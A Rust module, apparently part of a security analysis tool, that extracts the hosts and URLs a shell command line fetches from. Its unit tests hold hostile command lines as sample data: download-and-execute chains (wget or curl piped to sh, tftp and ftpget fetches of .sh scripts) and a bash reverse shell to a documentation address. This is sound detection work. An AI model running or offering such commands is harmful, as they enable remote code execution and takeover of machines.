//! Where a command line fetches from: the URLs and hosts that stand in it.
//!
//! Two ways to find them. A URL with a scheme is one wherever it stands. Without a scheme it is one
//! only as a word of a program that fetches: `wget 198.51.100.7/x.sh`, `tftp -g -r x 198.51.100.7`,
//! `scp user@host:x .`, `… > /dev/tcp/198.51.100.7/4444`.

use std::net::IpAddr;

use super::features::Origin;
use crate::shell::{self, Call};

const SCHEMES: &[&str] = &["http", "https", "ftp", "ftps", "tftp"];

/// Everything that `line` fetches from, each once, in its order.
pub fn origins(line: &str) -> Vec<Origin> {
    let line = shell::prefix(line, shell::BYTES_MAX);
    let mut found = Vec::new();
    let mut add = |origin: Option<Origin>| {
        if let Some(origin) =
            origin.and_then(Origin::abroad).filter(|origin| !found.contains(origin))
        {
            found.push(origin);
        }
    };
    for (at, _) in line.match_indices("://") {
        add(url_around(line, at));
    }
    for (at, opening) in line.match_indices("/dev/tcp/") {
        add(socket(line.get(at + opening.len()..).unwrap_or("")));
    }
    for call in shell::calls(line) {
        let Some(program) = call.names().next_back() else { continue };
        match program {
            "wget" | "curl" | "axel" | "lwp-download" | "fetch" => {
                call.arguments().for_each(|word| add(bare_url(word)));
            }
            "tftp" | "ftpget" | "ftp" => add(first_host(&call)),
            "scp" | "sftp" | "rsync" => call.arguments().for_each(|word| add(remote_copy(word))),
            _ => {}
        }
    }
    found
}

/// The URL whose `://` is at `at`.
fn url_around(line: &str, at: usize) -> Option<Origin> {
    let (before, after) = line.split_at_checked(at)?;
    let name = before.len() - before.bytes().rev().take_while(u8::is_ascii_alphanumeric).count();
    let scheme = before.get(name..)?.to_ascii_lowercase();
    if !SCHEMES.contains(&scheme.as_str()) {
        return None;
    }
    let is_end = |c: char| c.is_whitespace() || c.is_control() || "\"'`<>|;)(\\{}^".contains(c);
    let rest = after.get(3..)?;
    let rest = rest.split(is_end).next().unwrap_or(rest);
    // `&` separates parameters in a URL and commands in a shell; `&&` only the latter.
    let rest = rest.split("&&").next().unwrap_or(rest).trim_end_matches(['&', ',', '.']);
    Origin::of_url(&format!("{scheme}://{rest}"))
}

/// `198.51.100.7/x.sh` or `example.org/x`: a URL that leaves out its scheme.
fn bare_url(word: &str) -> Option<Origin> {
    if word.starts_with('-') || word.contains("://") {
        return None;
    }
    let (host, _) = word.split_once('/').unwrap_or((word, ""));
    let name = host.split_once(':').map_or(host, |(name, _)| name);
    // A word with a dot and no slash is a file as often as a host, unless it is an address.
    let is_url = name.parse::<IpAddr>().is_ok() || (word.contains('/') && is_domain(name));
    is_url.then(|| Origin::of_url(&format!("http://{word}")))?
}

fn is_domain(name: &str) -> bool {
    let Some((_, top)) = name.rsplit_once('.') else { return false };
    top.len() > 1
        && top.bytes().all(|byte| byte.is_ascii_alphabetic())
        && name.split('.').all(|label| {
            !label.is_empty()
                && label.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-')
        })
}

/// The host of `tftp`, `ftpget`: the first address, or else the first word that looks like a domain
/// and is no option's value.
fn first_host(call: &Call<'_>) -> Option<Origin> {
    let words: Vec<&str> = call.arguments().collect();
    let address = words.iter().find(|word| word.parse::<IpAddr>().is_ok());
    let is_value = |at: usize| {
        let before = at.checked_sub(1).and_then(|at| words.get(at));
        before.is_some_and(|word| {
            matches!(*word, "-r" | "-l" | "-u" | "-p" | "-P" | "-c" | "-b" | "get")
        })
    };
    let domain = || {
        words
            .iter()
            .enumerate()
            .find(|(at, word)| is_domain(word) && !is_value(*at))
            .map(|(_, word)| word)
    };
    // A script called `bins.sh` looks like a domain; a host comes before the files.
    Origin::of_host(address.or_else(|| domain().filter(|word| !word.ends_with(".sh")))?, None)
}

/// `user@host:path`.
fn remote_copy(word: &str) -> Option<Origin> {
    let (host, _) = word.split_once(':')?;
    let host = host.rsplit('@').next()?;
    (host.parse::<IpAddr>().is_ok() || is_domain(host)).then(|| Origin::of_host(host, None))?
}

/// `host/port` of bash's `/dev/tcp/host/port`.
fn socket(text: &str) -> Option<Origin> {
    let (host, rest) = text.split_once('/')?;
    let digits = rest.bytes().take_while(u8::is_ascii_digit).count();
    let port: u16 = rest.get(..digits)?.parse().ok()?;
    (host.parse::<IpAddr>().is_ok() || is_domain(host))
        .then(|| Origin::of_host(host, Some(port)))?
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(line: &str) -> Vec<String> {
        origins(line)
            .iter()
            .map(|origin| origin.url.clone().unwrap_or_else(|| origin.host.clone()))
            .collect()
    }

    #[test]
    fn urls_are_found_wherever_they_stand() {
        assert_eq!(
            found(
                "cd /tmp; wget http://198.51.100.7/a.sh; curl -O HTTP://Example.ORG:8080/B?c=1&d=2; sh a.sh"
            ),
            ["http://198.51.100.7/a.sh", "http://example.org:8080/B?c=1&d=2"]
        );
        assert_eq!(
            found("(wget -qO - http://198.51.100.7/x||curl http://198.51.100.7/x)|sh"),
            ["http://198.51.100.7/x"]
        );
        assert_eq!(found("wget http://198.51.100.7/x&&sh x &"), ["http://198.51.100.7/x"]);
        assert_eq!(found("x://y file:///etc/passwd http:// "), Vec::<String>::new());
    }

    #[test]
    fn a_program_that_fetches_needs_no_scheme() {
        assert_eq!(found("wget 198.51.100.7/x86_64; ./x86_64"), ["http://198.51.100.7/x86_64"]);
        assert_eq!(found("/bin/busybox wget example.org/x -O- | sh"), ["http://example.org/x"]);
        assert_eq!(found("curl -o out.txt 198.51.100.7"), ["http://198.51.100.7"]);
        assert_eq!(found("cat a.b/c; wget; wget -h"), Vec::<String>::new());
    }

    #[test]
    fn tftp_ftp_and_scp_name_a_host() {
        assert_eq!(found("tftp -r tftp2.sh -g 198.51.100.7; sh tftp2.sh"), ["198.51.100.7"]);
        assert_eq!(found("tftp 198.51.100.7 -c get tftp1.sh"), ["198.51.100.7"]);
        assert_eq!(found("tftp -c get tftp1.sh"), Vec::<String>::new());
        assert_eq!(
            found("ftpget -v -u anonymous -p anonymous -P 21 198.51.100.7 ftp1.sh ftp1.sh"),
            ["198.51.100.7"]
        );
        assert_eq!(
            found("scp -r me@drop.example.org:/x /tmp; scp -t /tmp/x"),
            ["drop.example.org"]
        );
    }

    #[test]
    fn a_socket_of_the_shell_is_a_host_with_its_port() {
        assert_eq!(found("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"), ["198.51.100.7:4444"]);
        assert_eq!(found("cat < /dev/tcp/$HOST/$PORT"), Vec::<String>::new());
    }

    #[test]
    fn the_machine_itself_is_no_origin() {
        assert_eq!(
            found("tftp -g 127.0.0.1 -r tsh; wget http://localhost/x; curl 0.0.0.0"),
            Vec::<String>::new()
        );
    }
}
